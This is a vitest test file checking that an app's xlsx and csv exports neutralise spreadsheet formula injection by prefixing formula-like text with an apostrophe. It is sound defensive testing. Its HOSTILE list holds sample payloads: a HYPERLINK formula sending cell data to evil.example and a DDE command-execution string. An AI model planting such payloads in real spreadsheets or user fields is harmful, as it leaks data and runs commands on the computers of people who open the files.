import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createExportsService, type Cell } from '../modules/exports';
import { parseCsv } from '../lib/upload-sheet';
import { createTestApp, type TestApp } from '../test/test-app';

// Formula injection in exports (issue 23): a text a spreadsheet would run as a formula (starting
// with = + - @, or a tab or carriage return) is written as text, with a leading apostrophe, by both
// of the exceljs writers every export goes through (exports.service.ts: writeWorkbook for lists,
// writeWorkbookStream for reports and batch results), in xlsx and csv. The files are read back.

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];
const HARMLESS = ['Plain text', 'a=b', 'x-ray', 'user@yard.example'];

let dataDir: string;
beforeAll(() => {
  dataDir = mkdtempSync(join(tmpdir(), 'openyard-formula-'));
});
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

const fileOf = (dir: string, filePath: string) => join(dir, 'exports', ...filePath.split('/').slice(3));

// The first column of the sheet as read back: xlsx cells with their types, csv fields as text.
async function readBack(path: string) {
  if (path.endsWith('.csv')) {
    const rows = parseCsv(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''));
    return rows.slice(1).map((row) => ({ value: row[0], formula: false }));
  }
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const sheet = book.worksheets[0]!;
  const cells: { value: unknown; formula: boolean }[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const cell = row.getCell(1);
    // XML reads a carriage return back as a line feed; the apostrophe before it is what counts.
    const value = typeof cell.value === 'string' ? cell.value.replace('\n', '\r') : cell.value;
    cells.push({ value, formula: cell.type === ExcelJS.ValueType.Formula });
  });
  return cells;
}

describe('formula injection in exports', () => {
  const expected = [
    ...HOSTILE.map((value) => ({ value: `'${value}`, formula: false })),
    ...HARMLESS.map((value) => ({ value, formula: false })),
  ];

  for (const format of ['xlsx', 'csv'] as const) {
    it(`writes formula-like texts as text in a listed ${format} export (writeWorkbook)`, async () => {
      const exports = createExportsService(dataDir);
      const filePath = await exports.writeWorkbook(1, 'formulas', {
        sheet: 'Values',
        format,
        columns: [{ header: 'Value', key: 'value' }],
        rows: [...HOSTILE, ...HARMLESS].map((value) => ({ value })),
      });
      const cells = await readBack(fileOf(dataDir, filePath));
      // csv fields keep the tab or carriage return as written; spreadsheets take the apostrophe first.
      expect(cells).toEqual(expected);
    });

    it(`writes formula-like texts as text in a streamed ${format} export (writeWorkbookStream)`, async () => {
      const exports = createExportsService(dataDir);
      async function* batches(): AsyncIterable<Cell[][]> {
        yield HOSTILE.map((value) => [value, -5]);
        yield HARMLESS.map((value) => [value, 7]);
      }
      const filePath = await exports.writeWorkbookStream(1, 'formulas', {
        sheet: 'Values',
        format,
        columns: [
          { header: 'Value', key: 'value' },
          { header: 'Number', key: 'number' },
        ],
        batches: batches(),
      });
      expect(await readBack(fileOf(dataDir, filePath))).toEqual(expected);
    });
  }
});

describe('formula injection through an export route', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  }, 180_000);
  afterAll(() => t?.close());

  it("keeps a user's hostile address text in the users export, xlsx and csv", async () => {
    const superadmin = await t.login('superadmin');
    const operatorRole = (await t.app.inject({ url: '/rest/roles', headers: superadmin.auth }))
      .json<{ id: number; name: string }[]>()
      .find((role) => role.name === 'operator')!;
    const address = HOSTILE[0]!;
    await superadmin.api.users.create({
      body: {
        username: 'formula-user',
        password: 'Pass-1234',
        confirmPassword: 'Pass-1234',
        role: { id: operatorRole.id },
        address,
      },
    });
    for (const format of ['xlsx', 'csv'] as const) {
      const { filePath } = await superadmin.api.users.export({ query: { format } });
      const response = await t.app.inject({ url: filePath, headers: superadmin.auth });
      expect(response.statusCode).toBe(200);
      let found: unknown;
      if (format === 'csv') {
        const rows = parseCsv(response.rawPayload.toString('utf8').replace(/^\uFEFF/, ''));
        const column = rows[0]!.indexOf('Address');
        found = rows.find((row) => row[1] === 'formula-user')?.[column];
      } else {
        const book = new ExcelJS.Workbook();
        await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
        book.worksheets[0]!.eachRow((row) => {
          if (row.getCell(2).value === 'formula-user') {
            const cell = row.getCell(6);
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            found = cell.value;
          }
        });
      }
      expect(found).toBe(`'${address}`);
    }
  });
});
